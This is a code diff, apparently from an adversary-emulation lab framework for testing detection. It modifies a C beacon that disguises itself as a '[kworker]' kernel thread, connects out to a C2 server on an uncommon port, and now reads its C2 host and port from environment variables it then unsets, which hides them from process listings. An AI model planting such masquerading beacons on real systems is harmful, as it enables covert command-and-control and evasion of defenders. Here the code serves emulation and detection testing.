@@ -50,12 +50,15 @@ BEACON_C = r"""#include <arpa/inet.h>
 #include <sys/prctl.h>
 #include <sys/socket.h>
 #include <unistd.h>
-int main(int argc, char **argv) {
-    prctl(PR_SET_NAME, (unsigned long)argv[3], 0, 0, 0);
+int main(void) {
+    const char *host = getenv("KW_H"), *port = getenv("KW_P"), *name = getenv("KW_N");
+    if (!host || !port || !name) return 2;
+    prctl(PR_SET_NAME, (unsigned long)name, 0, 0, 0);
     struct sockaddr_in a = {0};
     a.sin_family = AF_INET;
-    a.sin_port = htons(atoi(argv[2]));
-    inet_pton(AF_INET, argv[1], &a.sin_addr);
+    a.sin_port = htons(atoi(port));
+    inet_pton(AF_INET, host, &a.sin_addr);
+    unsetenv("KW_H"); unsetenv("KW_P"); unsetenv("KW_N");
     int s = socket(AF_INET, SOCK_STREAM, 0);
     if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
     char buf[256];
@@ -74,12 +77,14 @@ def kthread_beacon(
 ) -> list[Evidence]:
     """T1036.004 "linux rename /proc/pid/comm using prctl" with T1571 "Testing usage of uncommonly
     used port": a C program built on the host renames itself (prctl PR_SET_NAME) and is exec'd with
-    argv[0] ``[kworker/...]``, so ps shows a kernel worker thread, and it holds an outbound TCP
-    connection to the C2 on an uncommon port."""
+    argv[0] ``[kworker/...]`` and no other argument (its settings come from the environment), so ps
+    shows a kernel worker thread, and it holds an outbound TCP connection to the C2 on an uncommon
+    port."""
     address = c2_address(lab)
     sh(host, _build(host, BEACON_C, path) + f"chmod 0755 {path}\n", timeout=90)
     argv0 = f"[{comm}]"
-    spawn(host, f"bash -c {shlex.quote(f'exec -a {shlex.quote(argv0)} {path} {address} {port} {comm}')}")
+    settings = f"KW_H={address} KW_P={port} KW_N={shlex.quote(comm)}"
+    spawn(host, f"env {settings} bash -c {shlex.quote(f'exec -a {shlex.quote(argv0)} {path}')}")
     sh(
         host,
         "i=0; while [ $i -lt 100 ]; do "
